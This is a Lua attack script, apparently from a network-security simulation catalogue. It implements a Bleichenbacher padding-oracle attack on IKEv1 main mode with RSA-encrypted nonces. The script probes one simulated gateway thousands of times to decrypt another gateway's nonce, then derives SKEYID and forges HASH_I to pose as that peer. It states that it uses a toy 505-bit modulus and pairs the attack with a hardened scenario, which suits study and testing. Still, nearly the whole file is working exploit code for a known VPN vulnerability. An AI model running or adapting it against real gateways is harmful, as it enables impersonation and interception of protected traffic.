-- Authentication by RSA-encrypted nonces: a gateway that answers a well-formed ciphertext, and stays silent at any other, decrypts for
-- whoever asks often enough (Bleichenbacher, 1998). Here mallory begins main mode with gw-a in gw-b's name; gw-a answers with its nonce,
-- encrypted for gw-b; mallory asks gw-b about it, some thousand times, knows the nonce before gw-a gives up, and is gw-b to gw-a.
-- A toy on purpose: the modulus has 505 bits, so that the first two octets of a block fit by chance once in some 400, and not in 65,536.
attack = {
  id = "A04", name = "ikev1-bleichenbacher",
  about = "Decrypts gw-a's nonce with the answers and the silence of gw-b, and passes for gw-b",
  position = "on-path",
  needs = "both certificates, which are public; a gateway that lets bad padding be seen; a toy modulus of 505 bits",
  source = "Felsch and others, USENIX Security 2018; CVE-2018-0131; RFC 2409, 5.2; catalogue A04",
  shows = {
    vulnerable = "some thousand questions later mallory has an authenticated SA with gw-a, as gw-b",
    hardened = "gw-b answers every ciphertext alike: nothing can be learnt by asking",
  },
  scenarios = { vulnerable = "ikev1-rsa-nonces", hardened = { "ikev1-rsa-nonces-alike" } },
}

-- Parameters: batch = "24" (questions at once), wait = "9ms" (after which silence is an answer), most = "20000" (questions).
local batch, wait, most
local key_a, key_b, k
local target, asked = { suite = nil }, 0       -- main mode with gw-a, in gw-b's name
local questions, by_spi, round = {}, {}, 0     -- main modes with gw-b, in gw-a's name, on their way
local step, c0, intervals = "probe", nil, nil
local s, fitted, r                             -- the next to search; the last that fitted; of step 2c
local B, B2, B3

local address = { a = "192.0.2.1", b = "192.0.2.2" }

local function find(message, type)
  for _, payload in ipairs(message.payloads) do
    if payload.type == type then return payload end
  end
end

local function attribute(type, value) return string.pack(">I2I2", 0x8000 | type, value) end
-- AES-128, SHA, RSA encryption, MODP-1024.
local function offer()
  local a = attribute(1, 7) .. attribute(2, 2) .. attribute(4, 2) .. attribute(3, 4) .. attribute(14, 128)
  local transform = string.pack(">I1I1I2I1I1I2", 0, 0, 8 + #a, 1, 1, 0) .. a
  local proposal = string.pack(">I1I1I2I1I1I1I1", 0, 0, 8 + #transform, 1, 1, 0, 1) .. transform
  return string.pack(">I4I4", 1, 1) .. proposal
end
local sa_body = offer()

local function id_of(name) return string.pack(">I1I1I2", 2, 0, 0) .. name end
local function encrypted(block, key) return number.octets(number.power(block, key.e, key.n), k) end

local function send(to, spi_i, spi_r, payloads, note)
  local from = to == "a" and "b" or "a"
  inject{ src = address[from], src_port = 500, dst = address[to], dst_port = 500, protocol = "IKE", to = "gw-" .. to, note = note,
    payload = ike.encode({ version = 0x10, spi_i = spi_i, spi_r = spi_r or "0000000000000000", exchange = 2, message_id = 0, payloads = payloads }) }
end

function on_start(params)
  batch = tonumber(params.batch or "24")
  wait = params.wait or "9ms"
  most = tonumber(params.most or "20000")
  key_a, key_b = rsa.key(held("cert:gw-a")), rsa.key(held("cert:gw-b"))
  k = #key_b.n
  local two = number.octets(2, 1)
  B = number.power(two, 8 * (k - 2), string.rep("\xff", k + 1))
  B2, B3 = number.mul(B, 2), number.mul(B, 3)
  timer.after("1100ms", "begin")
end

-- ---- main mode with gw-a, in gw-b's name ----------------------------------------------------------

local function begin_with_a()
  target.spi_i, target.ni = bytes.hex(crypto.random(8)), crypto.random(16)
  send("a", target.spi_i, nil, { { number = 1, body = sa_body } }, "main mode with gw-a, in gw-b's name")
end

local function hide_from_a(message)
  target.spi_r, target.suite = message.spi_r, ikev1.sa(find(message, "SA").body).suite
  target.pair = crypto.key_pair(target.suite.ke)
  send("a", target.spi_i, target.spi_r, {
    { number = 4, body = target.pair.public },
    { number = 5, body = encrypted(rsa.block(id_of("gw-b.example"), k), key_a) },
    { number = 10, body = encrypted(rsa.block(target.ni, k), key_a) } }, "our nonce, encrypted for gw-a")
end

-- The nonce is known: HASH_I, and with it gw-b's place.
local function prove_to_a(nr)
  target.nr = nr
  local shared = crypto.shared(target.pair, target.g_xr)
  target.skeyid = ikev1.skeyid(target.suite.prf, { ni = target.ni, nr = nr, spi_i = target.spi_i, spi_r = target.spi_r })
  local keys = ikev1.keys(target.suite, { skeyid = target.skeyid, shared = shared, spi_i = target.spi_i, spi_r = target.spi_r })
  learn("SKEYID", "the secret of gw-a's SA with \"gw-b\"", "both nonces and both cookies", target.skeyid)
  local hash = ikev1.hash(target.suite.prf, "initiator", { skeyid = target.skeyid, g_xi = target.pair.public, g_xr = target.g_xr,
    spi_i = target.spi_i, spi_r = target.spi_r, sa = sa_body, id = id_of("gw-b.example") })
  local octets, iv = ikev1.seal({ version = 0x10, spi_i = target.spi_i, spi_r = target.spi_r, exchange = 2, message_id = 0,
    payloads = { { number = 8, body = hash } } }, target.suite, keys.key, ikev1.iv(target.suite, target.pair.public, target.g_xr))
  target.keys, target.iv = keys, iv
  inject{ src = address.b, src_port = 500, dst = address.a, dst_port = 500, protocol = "IKE", to = "gw-a", payload = octets,
    note = "HASH_I, made with the stolen nonce" }
end

local function from_a(message, octets)
  if target.keys and message.payloads[1] and #message.payloads == 1 and not find(message, "KE") then
    local inner = ikev1.open(octets, target.suite, target.keys.key, target.iv)
    if inner and find(inner, "HASH") then
      achieved("pass for gw-b", true, "gw-a has an SA with \"gw-b\", after " .. asked .. " questions to gw-b")
      target.done = true
    end
  elseif not target.suite and find(message, "SA") then
    hide_from_a(message)
  elseif find(message, "KE") and not c0 then
    target.g_xr, c0 = find(message, "KE").body, find(message, "NONCE").body
    learn("ciphertext", "gw-a's nonce, encrypted for gw-b", "message 4 of main mode", c0)
    timer.after("1ms", "round")
  end
end

-- ---- the oracle: main mode with gw-b, in gw-a's name ----------------------------------------------

local function ask(value, ciphertext)
  local spi = bytes.hex(crypto.random(8))
  local question = { s = value, ciphertext = ciphertext, spi_i = spi }
  questions[#questions + 1] = question
  by_spi[spi] = question
  asked = asked + 1
  send("b", spi, nil, { { number = 1, body = sa_body } }, "a question begins")
end

local good_id
local function from_b(message)
  local question = by_spi[message.spi_i]
  if not question then return end
  if find(message, "SA") then
    good_id = good_id or encrypted(rsa.block(id_of("gw-a.example"), k), key_b)
    send("b", question.spi_i, message.spi_r, { { number = 4, body = crypto.random(128) }, { number = 5, body = good_id },
      { number = 10, body = question.ciphertext } }, "the question itself")
  elseif find(message, "KE") then
    question.fits = true  -- it answered: the block begins with 00 02
  end
end

-- ---- Bleichenbacher's algorithm ------------------------------------------------------------------

local function ceil_div(a, b) return number.div(number.add(a, number.sub(b, 1)), b) end
local function multiple(value) return number.octets(number.mod(number.mul(c0, number.power(value, key_b.e, key_b.n)), key_b.n), k) end
local function max(a, b) if number.less(a, b) then return b end return a end
local function min(a, b) if number.less(a, b) then return a end return b end

-- Step 3: what m can still be, now that m * s begins with 00 02.
local function narrow(value)
  local found = {}
  for _, m in ipairs(intervals) do
    local low, high = number.mul(m[1], value), number.mul(m[2], value)
    local first = number.less(low, B3) and number.octets(0, 1) or ceil_div(number.add(number.sub(low, B3), 1), key_b.n)
    local last = number.less(high, B2) and nil or number.div(number.sub(high, B2), key_b.n)
    local at, count = first, 0
    while last and not number.less(last, at) and count < 64 do
      local rn = number.mul(at, key_b.n)
      local a = max(m[1], ceil_div(number.add(B2, rn), value))
      local b = min(m[2], number.div(number.sub(number.add(B3, rn), 1), value))
      if not number.less(b, a) then found[#found + 1] = { a, b } end
      at, count = number.add(at, 1), count + 1
    end
  end
  if #found > 0 then intervals = found end
end

-- Step 2c: with one interval left, s is chosen so that each answer halves it.
local function next_pair()
  local a, b = intervals[1][1], intervals[1][2]
  if not r then
    r = ceil_div(number.mul(2, number.sub(number.mul(b, fitted), B2)), key_b.n)
    target.s = ceil_div(number.add(B2, number.mul(r, key_b.n)), b)
  end
  for _ = 1, 64 do
    local value = target.s
    if number.less(number.mul(value, a), number.add(B3, number.mul(r, key_b.n))) then
      target.s = number.add(value, 1)
      return value
    end
    r = number.add(r, 1)
    target.s = ceil_div(number.add(B2, number.mul(r, key_b.n)), b)
  end
end

local function question_round()
  questions, by_spi = {}, {}
  if step == "probe" then
    ask(nil, number.octets(number.mod(crypto.random(k), key_b.n), k))
    ask(nil, number.octets(number.mod(crypto.random(k), key_b.n), k))
    ask(nil, c0)
  elseif step == "search" then
    for _ = 1, batch do
      ask(s, multiple(s))
      s = number.add(s, 1)
    end
  else
    for _ = 1, 6 do
      local value = next_pair()
      if value then ask(value, multiple(value)) end
    end
  end
  timer.after(wait, "answers")
end

local function recovered(block)
  local nonce = rsa.data(number.octets(block, k))
  learn("nonce", "gw-a's nonce Nr", asked .. " questions to gw-b", nonce)
  prove_to_a(nonce)
end

local function judge_probe()
  local random_fits = questions[1].fits and questions[2].fits
  if random_fits or not questions[3].fits then
    learn("oracle", "gw-b answers random octets as it answers a true ciphertext: it tells nothing", "three questions")
    return achieved("pass for gw-b", false, "gw-b answers every ciphertext alike")
  end
  learn("oracle", "gw-b answers what begins with 00 02, and is silent at the rest", "three questions")
  intervals = { { B2, number.sub(B3, 1) } }
  s, step = ceil_div(key_b.n, B3), "search"
  question_round()
end

local function judge()
  if step == "probe" then return judge_probe() end
  local hit
  for _, question in ipairs(questions) do
    if question.fits then
      narrow(question.s)
      hit, fitted = true, question.s
    end
  end
  if hit then r, round = nil, round + 1 end
  local only = #intervals == 1
  if only and not number.less(intervals[1][1], intervals[1][2]) then return recovered(intervals[1][1]) end
  if only and round > 0 then
    step = "halve"
  elseif hit then
    if step == "halve" then s = number.add(fitted, 1) end
    step = "search"
  end
  if round > 0 and round % 100 == 0 and hit then say(asked .. " questions, " .. round .. " answers that fit") end
  if asked > most then return achieved("pass for gw-b", false, "no end after " .. asked .. " questions") end
  question_round()
end

function on_timer(label)
  if label == "begin" then begin_with_a() end
  if label == "round" then question_round() end
  if label == "answers" then judge() end
end

function on_packet(p)
  if p.protocol ~= "IKE" then return end
  local message = ike.decode(p.payload)
  if p.from == "gw-a" and message.spi_i == target.spi_i then
    drop("an answer to us")
    from_a(message, p.payload)
  elseif p.from == "gw-b" and by_spi[message.spi_i] then
    drop("an answer to us")
    from_b(message)
  end
end

function on_finish()
  if not target.keys and step ~= "probe" and not target.done then
    achieved("pass for gw-b", false, "not ready in time, after " .. asked .. " questions")
  end
end
